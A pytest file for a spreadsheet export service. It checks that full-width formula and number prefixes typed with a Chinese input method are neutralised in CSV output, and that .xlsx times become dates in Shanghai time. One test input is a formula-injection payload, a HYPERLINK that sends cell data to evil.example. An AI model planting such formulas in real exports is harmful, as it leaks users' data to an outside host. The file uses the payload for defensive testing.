"""Exports as the office opens them: Excel or WPS on a Chinese Windows desktop."""
import csv
import io

import pytest

from app.services import exports


def read_csv(data):
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data[3:].decode("utf-8"), newline="")))


# A Chinese input method types the full-width forms; Excel and WPS in a Chinese (or
# Japanese) locale fold them to ASCII when they read a cell, so ＝1+1 is run as =1+1 and
# ０２１５７００１２３４ becomes the number 2157001234, as their ASCII twins would.
@pytest.mark.parametrize("typed", [
    '＝HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "＋8613912345678",
    "－1+2",
    "＠SUM(1)",
    "﹦1+1",  # the small equals sign folds to = as well
    "０２１５７００１２３４",  # a landline typed in full-width digits: the 0 stays
])
def test_full_width_formula_and_number_starts_begin_with_a_quote(app, typed):
    assert exports.safe_cell(typed) == "'" + typed
    parsed = read_csv(b"".join(exports.csv_chunks(["意见"], [[typed]])))
    assert parsed[1] == ["'" + typed]


@pytest.mark.parametrize("typed", [
    "（１）展板字太小",  # a full-width bracket or digit inside a text is left alone
    "１３９１２３４５６７８",  # a mobile number reads as written, like its ASCII twin
    "非常好，＝号写错了",
    "Ａ区展板",
])
def test_other_full_width_texts_are_left_as_typed(app, typed):
    assert exports.safe_cell(typed) == typed
    parsed = read_csv(b"".join(exports.csv_chunks(["意见"], [[typed]])))
    assert parsed[1] == [typed]


def test_xlsx_times_are_dates_excel_can_sort_and_filter_in_shanghai_time(app):
    """In the .xlsx a time was a text: Excel's date filter (by year, month, day) did not
    offer it and a difference of two times gave #VALUE!. It is a date now, in Beijing time
    as in the CSV (Excel has no time zones)."""
    from datetime import date, datetime, timezone

    from openpyxl import load_workbook

    submitted = datetime(2026, 6, 30, 17, 5, 42, tzinfo=timezone.utc)  # 1 July 01:05 in Shanghai
    rows = [[1, submitted, date(2026, 7, 21), None]]
    data = b"".join(exports.xlsx_chunks(["编号", "提交时间", "办理期限", "办结时间"], rows))
    sheet = load_workbook(io.BytesIO(data)).active
    when, due, empty = sheet["B2"], sheet["C2"], sheet["D2"]
    assert when.is_date and when.value == datetime(2026, 7, 1, 1, 5)
    assert when.number_format == "yyyy-mm-dd hh:mm"  # shown as the CSV writes it
    assert due.is_date and due.value == datetime(2026, 7, 21)
    assert due.number_format == "yyyy-mm-dd"
    assert empty.value is None
    # The CSV, which Excel reads as a date itself, keeps its text.
    parsed = read_csv(b"".join(exports.csv_chunks(["提交时间"], [[submitted]])))
    assert parsed[1] == ["2026-07-01 01:05"]
